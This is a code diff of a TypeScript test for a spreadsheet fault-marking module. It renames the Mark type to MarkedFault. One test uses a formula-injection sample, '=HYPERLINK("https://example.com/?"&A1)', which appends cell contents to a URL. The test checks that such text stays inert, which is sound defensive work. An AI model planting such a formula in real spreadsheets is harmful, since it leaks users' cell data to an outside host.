@@ -1,5 +1,5 @@
 import t from 'tap'
-import type { Mark } from '../../../src/xlsx/marking/fault-sheet.js'
+import type { MarkedFault } from '../../../src/xlsx/marking/fault-sheet.js'
 import { edited } from '../../fixtures/excel/edit.js'
 import { contents, markAt, markedContents, markHere, seen } from '../../fixtures/excel/marks.js'
 import { readHere, refusalOf, sample, sheetPart } from '../../fixtures/excel/reading.js'
@@ -7,7 +7,7 @@ import { handMade, sheetXml, stylesXml } from '../../fixtures/excel/workbook.js'
 
 const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
 
-const marks: Mark[] = [
+const marks: MarkedFault[] = [
   markAt('Devices', 'B2', 'Not a code.'),
   markAt('Devices', 'B2', 'Too short.'),
   markAt('Devices', 'C9', 'Is missing.'),
@@ -72,7 +72,13 @@ t.test('a text that looks like a formula stays a text, and formulas are left out
   const formula = '=HYPERLINK("https://example.com/?"&A1)'
   const text = `<c t="inlineStr"><is><t>${formula.replaceAll('&', '&amp;')}</t></is></c>`
   const file = handMade({ sheets: [`<row>${text}<c><f>1+2</f></c><c><f>1+2</f><v>3</v></c></row>`] })
-  const fault: Mark = { sheet: 'Sheet1', cell: 'A1', column: formula, found: formula, message: formula }
+  const fault: MarkedFault = {
+    sheet: 'Sheet1',
+    cell: 'A1',
+    column: formula,
+    found: formula,
+    message: formula
+  }
   const after = await markHere(file, [fault], formula)
   const { book, marks: found } = await seen(after)
   t.same(found, [`Sheet1 A1 ${formula}`])
